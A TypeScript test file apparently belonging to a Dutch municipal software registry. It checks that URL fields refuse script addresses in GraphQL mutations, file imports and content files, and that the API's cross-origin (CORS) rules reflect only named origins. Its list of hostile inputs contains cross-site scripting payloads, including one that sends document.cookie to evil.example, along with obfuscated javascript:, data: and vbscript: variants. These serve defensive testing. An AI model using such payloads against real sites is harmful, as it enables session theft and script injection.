// Only web addresses become links, and only named origins may read the API cross-origin. A stored `javascript:`,
// `data:` or `vbscript:` address is refused by every mutation, import and content file, and a page shows a stored
// non-web address as text; the API answers cross-origin requests only for GRONDPLAN_CORS_ORIGINS, never by reflecting
// an arbitrary Origin. (The headers of the built server and the browser checks are in test/e2e/.)
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { readGemmaAmeff, toGemmaAmeff } from '#core/exchange/gemma-ameff.ts';
import { loadGemma, readGemmaFiles } from '#core/exchange/gemma-read.ts';
import { planPubliccodeImport } from '#core/exchange/publiccode.ts';
import { createGraphQLServer } from '#graphql/yoga.ts';
import { projectRoot } from '#prisma/database.ts';
import { ContentError, loadContent } from '#prisma/seed/load.ts';
import { WEB_ADDRESS_MESSAGE } from '#prisma/web-address.ts';
import { webHref } from '#site/lib/links.ts';
import { createTestDatabase, type TestDatabase } from '../helpers/database.ts';
import { type GraphQLResponse, graphqlClient } from '../helpers/graphql.ts';
import { createUser, type TestUser } from '../helpers/users.ts';

/** Script addresses as an attacker would write them, each one a way past a naive "starts with javascript:" check. */
const HOSTILE = [
  'javascript:fetch("https://evil.example/?"+document.cookie)',
  'JaVaScRiPt:alert(1)',
  '   javascript:alert(1)',
  '\u0001\u0002javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&colon;alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  ' VBScript:msgbox(1)',
];
/** What every refusal says, in Dutch: only web addresses, or why this one is not a valid one. */
const DUTCH_REFUSAL =
  /Alleen webadressen die met http:\/\/ of https:\/\/ beginnen\.|Geen geldige URL\.|Een webadres mag geen spaties of onzichtbare tekens bevatten\./;

describe('the render helper', () => {
  it('turns http: and https: addresses into links', () => {
    for (const address of [
      'https://www.afas.nl',
      'http://intranet.emmen.nl/apps?x=1#y',
      'HTTPS://GitHub.com/open-zaak/open-zaak',
    ])
      expect(webHref(address)).toBe(address);
  });

  it('gives no link for any other scheme, however it is spelled, nor for empty values', () => {
    for (const address of [
      ...HOSTILE,
      'mailto:a@b.nl',
      'ftp://x.nl',
      '//evil.example',
      '/relatief',
      'https://',
      'https://x.nl/\u0000',
      '',
      null,
      undefined,
    ])
      expect(webHref(address), JSON.stringify(address)).toBeNull();
  });
});

let t: TestDatabase;
let editor: TestUser;
let admin: TestUser;
beforeAll(async () => {
  t = await createTestDatabase();
  editor = await createUser(t.db, 'links@emmen.test', [{ organisation: 'emmen', role: 'EDITOR' }]);
  admin = await createUser(t.db, 'links@grondplan.test', [], { instanceAdmin: true });
});
afterAll(() => t?.drop());

type Result = { __typename: string; message?: string; problems?: { path: string[]; message: string }[] };
const problemsOf = (answer: GraphQLResponse<Record<string, Result>>, field: string) => {
  expect(answer.errors).toBeUndefined();
  const result = answer.data?.[field];
  expect(result?.__typename, JSON.stringify(result)).toBe('ValidationError');
  return result?.problems ?? [];
};
const errorFields = '__typename ... on Error { message } ... on ValidationError { problems { path message } }';

describe('mutations refuse every address that is not a web address, with a Dutch message', () => {
  it('createSupplier: website', async () => {
    const gql = graphqlClient(t.db, editor.token);
    for (const [i, website] of HOSTILE.entries()) {
      const answer = await gql<Record<string, Result>>(
        `mutation($w: String!, $n: String!) { createSupplier(input: { organisation: "emmen", name: $n, website: $w }) { ${errorFields} } }`,
        { w: website, n: `Leverancier ${i}` },
      );
      const problems = problemsOf(answer, 'createSupplier');
      expect(
        problems.map((p) => p.path.join('.')),
        website,
      ).toEqual(['input.website']);
      expect(problems[0]?.message, website).toMatch(DUTCH_REFUSAL);
    }
    expect(await t.db.prisma.supplier.count({ where: { name: { startsWith: 'Leverancier ' } } })).toBe(0);
    // The message names what to do for a plain other scheme.
    const plain = await gql<Record<string, Result>>(
      'mutation { createSupplier(input: { organisation: "emmen", name: "X", website: "javascript:alert(1)" }) { __typename ... on Error { message } } }',
    );
    expect(plain.data?.createSupplier?.message).toBe(`input.website: ${WEB_ADDRESS_MESSAGE}`);
    // A web address is taken, trimmed.
    const good = await gql<Record<string, { __typename: string }>>(
      'mutation { createSupplier(input: { organisation: "emmen", name: "Goede Leverancier", website: "  https://goed.example.nl/  " }) { __typename } }',
    );
    expect(good.data?.createSupplier?.__typename).toBe('CreateSupplierSuccess');
    expect((await t.db.prisma.supplier.findFirstOrThrow({ where: { name: 'Goede Leverancier' } })).website).toBe(
      'https://goed.example.nl/',
    );
  });

  it('createProduct and updateProduct: repository', async () => {
    const gql = graphqlClient(t.db, editor.token);
    const component = (await t.db.prisma.referenceComponent.findFirstOrThrow({ select: { id: true } })).id;
    const created = await gql<{ createProduct: { __typename: string; data?: { id: string; revision: number } } }>(
      `mutation($c: String!) { createProduct(input: { organisation: "emmen", name: "Veilig Pakket", supplier: "afas", architecture: LEGACY, layers: [DATA], referenceComponents: [$c] }) {
        __typename ... on CreateProductSuccess { data { id revision } } } }`,
      { c: component },
    );
    const product = created.data?.createProduct.data;
    expect(product).toBeDefined();
    for (const [i, repository] of HOSTILE.entries()) {
      const create = await gql<Record<string, Result>>(
        `mutation($c: String!, $r: String!, $n: String!) { createProduct(input: { organisation: "emmen", name: $n, supplier: "afas", architecture: LEGACY, layers: [DATA], referenceComponents: [$c], repository: $r }) { ${errorFields} } }`,
        { c: component, r: repository, n: `Pakket ${i}` },
      );
      expect(problemsOf(create, 'createProduct').map((p) => [p.path.join('.'), DUTCH_REFUSAL.test(p.message)])).toEqual(
        [['input.repository', true]],
      );
      const update = await gql<Record<string, Result>>(
        `mutation($id: ID!, $rev: Int!, $r: String!) { updateProduct(input: { id: $id, revision: $rev, repository: $r }) { ${errorFields} } }`,
        { id: product?.id, rev: product?.revision, r: repository },
      );
      expect(problemsOf(update, 'updateProduct').map((p) => [p.path.join('.'), DUTCH_REFUSAL.test(p.message)])).toEqual(
        [['input.repository', true]],
      );
    }
    expect(await t.db.prisma.product.count({ where: { name: { startsWith: 'Pakket ' } } })).toBe(0);
    expect((await t.db.prisma.product.findFirstOrThrow({ where: { name: 'Veilig Pakket' } })).repository).toBeNull();
  });

  it('createOrganisation: website', async () => {
    const gql = graphqlClient(t.db, admin.token);
    for (const [i, website] of HOSTILE.entries()) {
      const answer = await gql<Record<string, Result>>(
        `mutation($w: String!, $s: String!) { createOrganisation(input: { slug: $s, name: "Gemeente Schrift", type: MUNICIPALITY, website: $w }) { ${errorFields} } }`,
        { w: website, s: `schrift-${i}` },
      );
      expect(
        problemsOf(answer, 'createOrganisation').map((p) => [p.path.join('.'), DUTCH_REFUSAL.test(p.message)]),
      ).toEqual([['input.website', true]]);
    }
    expect(await t.db.prisma.organisation.count({ where: { slug: { startsWith: 'schrift-' } } })).toBe(0);
  });
});

describe('imports and content files refuse them too', () => {
  const fixture = readFileSync(path.join(projectRoot, 'test/fixtures/publiccode/open-archief.yml'), 'utf8');

  it('publiccode.yml: url, in the plan and through the multipart mutation', async () => {
    for (const url of HOSTILE) {
      const file = fixture.replace(
        'url: https://github.com/example-gemeente/open-archief.git',
        `url: ${JSON.stringify(url)}`,
      );
      const plan = await planPubliccodeImport(t.db, Buffer.from(file));
      expect(
        plan.refused.map((p) => [p.line, p.message.startsWith('url: '), DUTCH_REFUSAL.test(p.message)]),
        url,
      ).toEqual([[4, true, true]]);
    }
    const query = `mutation ($input: ImportProductInput!) { importProduct(input: $input) {
      __typename ... on ImportProductSuccess { data { applied refused { line message } } } } }`;
    const body = new FormData();
    body.set(
      'operations',
      JSON.stringify({
        query,
        variables: { input: { organisation: 'emmen', fileName: 'publiccode.yml', file: null, apply: true } },
      }),
    );
    body.set('map', JSON.stringify({ 0: ['variables.input.file'] }));
    body.set(
      '0',
      new File([fixture.replace(/^url: .*$/m, 'url: "javascript:alert(document.domain)"')], 'publiccode.yml'),
    );
    const response = await createGraphQLServer(t.db).fetch('http://grondplan.test/graphql', {
      method: 'POST',
      body,
      headers: { authorization: `Bearer ${editor.token}` },
    });
    expect(((await response.json()) as { data: { importProduct: unknown } }).data.importProduct).toEqual({
      __typename: 'ImportProductSuccess',
      data: { applied: false, refused: [{ line: 4, message: `url: ${WEB_ADDRESS_MESSAGE}` }] },
    });
    expect(await t.db.prisma.product.count({ where: { name: 'Open Archief' } })).toBe(0);
  });

  it('GEMMA as CSV extracts and as an ArchiMate file: gemma_url and a standard’s url', async () => {
    const dir = path.join(projectRoot, 'content', 'gemma');
    const files = new Map(
      [
        'referentiecomponenten.csv',
        'standaarden.csv',
        'referentiecomponent-standaarden.csv',
        'referentiecomponent-stromen.csv',
        'buitengemeentelijke-voorzieningen.csv',
      ].map((f) => [f, readFileSync(path.join(dir, f))] as const),
    );
    expect(readGemmaFiles(files).problems).toEqual([]);
    const components = readFileSync(path.join(dir, 'referentiecomponenten.csv'), 'utf8').replace(
      /,https:\/\/www\.gemmaonline\.nl[^\r\n]*/,
      ',JavaScript:alert(1)',
    );
    const standards = readFileSync(path.join(dir, 'standaarden.csv'), 'utf8').replace(
      /,https:\/\/[^,\r\n]*/,
      ',Data:text/html;charset=utf-8;x',
    );
    const hostile = new Map(files);
    hostile.set('referentiecomponenten.csv', Buffer.from(components));
    hostile.set('standaarden.csv', Buffer.from(standards));
    const refused = readGemmaFiles(hostile);
    expect(refused.data).toBeNull();
    // (The refused rows' links are refused after them, as pointing at unknown rows.)
    expect(refused.problems.filter((p) => ['referentiecomponenten.csv', 'standaarden.csv'].includes(p.file))).toEqual([
      { file: 'referentiecomponenten.csv', row: 1, message: `gemma_url: ${WEB_ADDRESS_MESSAGE}` },
      { file: 'standaarden.csv', row: 1, message: `url: ${WEB_ADDRESS_MESSAGE}` },
    ]);
    const gemma = await loadGemma(t.db);
    const [first] = gemma.components;
    if (!first) throw new Error('no GEMMA components');
    first.gemma_url = 'vbscript:msgbox(1)';
    const read = readGemmaAmeff(Buffer.from(toGemmaAmeff(gemma, '2026-11-30T00:00:00Z')), 'gemma.xml');
    expect(read.data).toBeNull();
    expect(read.problems.map((p) => p.message).filter((m) => !m.startsWith('Onbekende'))).toEqual([
      `gemma_url: ${WEB_ADDRESS_MESSAGE}`,
    ]);
  });

  it('content files: an organisation’s, supplier’s or product’s address', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'grondplan-content-'));
    try {
      cpSync(path.join(projectRoot, 'content'), dir, { recursive: true });
      const edit = (file: string, from: string | RegExp, to: string) => {
        const text = readFileSync(path.join(dir, file), 'utf8');
        expect(text.replace(from, to)).not.toBe(text);
        writeFileSync(path.join(dir, file), text.replace(from, to));
      };
      edit('suppliers.yaml', 'website: https://www.afas.nl', 'website: "javascript:alert(1)"');
      edit('products.yaml', /repository: https?:\/\/\S+/, 'repository: " data:text/html,x"');
      edit('organisations.yaml', /website: https?:\/\/\S+/, 'website: "VBScript:msgbox(1)"');
      let error: unknown;
      try {
        loadContent(dir);
      } catch (e) {
        error = e;
      }
      expect(error).toBeInstanceOf(ContentError);
      const problems = (error as ContentError).problems.filter((p) => p.includes(WEB_ADDRESS_MESSAGE));
      expect(problems.map((p) => p.replace(/^.*?(suppliers|products|organisations)\.yaml.*$/, '$1'))).toEqual(
        expect.arrayContaining(['organisations', 'suppliers', 'products']),
      );
      expect(problems).toHaveLength(3);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('cross-origin requests (CORS)', () => {
  afterEach(() => {
    vi.unstubAllEnvs();
  });
  const partner = 'https://partner.example.nl';
  const request = (method: string, origin: string | null, extra: Record<string, string> = {}) =>
    createGraphQLServer(t.db).fetch('http://grondplan.test/graphql', {
      method,
      headers: {
        ...(origin ? { origin } : {}),
        ...(method === 'POST' ? { 'content-type': 'application/json', accept: 'application/json' } : {}),
        authorization: `Bearer ${editor.token}`,
        ...extra,
      },
      ...(method === 'POST' ? { body: JSON.stringify({ query: '{ viewer { email } }' }) } : {}),
    });
  const cors = (response: Response) =>
    Object.fromEntries(
      [...response.headers.entries()].filter(([name]) => name.startsWith('access-control-') || name === 'vary'),
    );
  const preflight = {
    'access-control-request-method': 'POST',
    'access-control-request-headers': 'content-type, authorization',
  };

  it('is off without GRONDPLAN_CORS_ORIGINS: no origin is reflected, no credentials allowed; OPTIONS answers 204', async () => {
    vi.stubEnv('GRONDPLAN_CORS_ORIGINS', '');
    for (const origin of ['https://evil.example', 'http://localhost:9999', 'null']) {
      const post = await request('POST', origin);
      expect(post.status).toBe(200);
      expect(cors(post), origin).toEqual({});
      const options = await request('OPTIONS', origin, preflight);
      expect([options.status, cors(options)], origin).toEqual([204, {}]);
    }
  });

  it('allows the named origins only, with credentials, and never reflects another', async () => {
    vi.stubEnv('GRONDPLAN_CORS_ORIGINS', `${partner}, https://andere.example.nl`);
    const options = await request('OPTIONS', partner, preflight);
    expect(options.status).toBe(204);
    expect(cors(options)).toMatchObject({
      'access-control-allow-origin': partner,
      'access-control-allow-credentials': 'true',
      'access-control-allow-methods': 'GET, POST',
      'access-control-allow-headers': 'content-type, authorization',
    });
    expect(cors(options).vary).toMatch(/\bOrigin\b/i);
    const post = await request('POST', partner);
    expect(cors(post)).toMatchObject({
      'access-control-allow-origin': partner,
      'access-control-allow-credentials': 'true',
    });
    expect(await post.json()).toEqual({ data: { viewer: { email: editor.email } } });
    for (const origin of [
      'https://evil.example',
      'https://partner.example.nl.evil.example',
      'http://partner.example.nl',
      'null',
    ]) {
      const other = await request('POST', origin);
      expect(
        Object.keys(cors(other)).filter((name) => name.startsWith('access-control-')),
        origin,
      ).toEqual([]);
      const otherOptions = await request('OPTIONS', origin, preflight);
      expect(otherOptions.status).toBe(204);
      expect(
        Object.keys(cors(otherOptions)).filter((name) => name.startsWith('access-control-')),
        origin,
      ).toEqual([]);
    }
  });

  it('refuses a configured value that is not an origin, naming it', async () => {
    vi.stubEnv('GRONDPLAN_CORS_ORIGINS', 'https://partner.example.nl/pad');
    expect(() => createGraphQLServer(t.db)).toThrow(/GRONDPLAN_CORS_ORIGINS.*"https:\/\/partner\.example\.nl\/pad"/);
    vi.stubEnv('GRONDPLAN_CORS_ORIGINS', '*');
    expect(() => createGraphQLServer(t.db)).toThrow(/GRONDPLAN_CORS_ORIGINS.*"\*"/);
  });
});
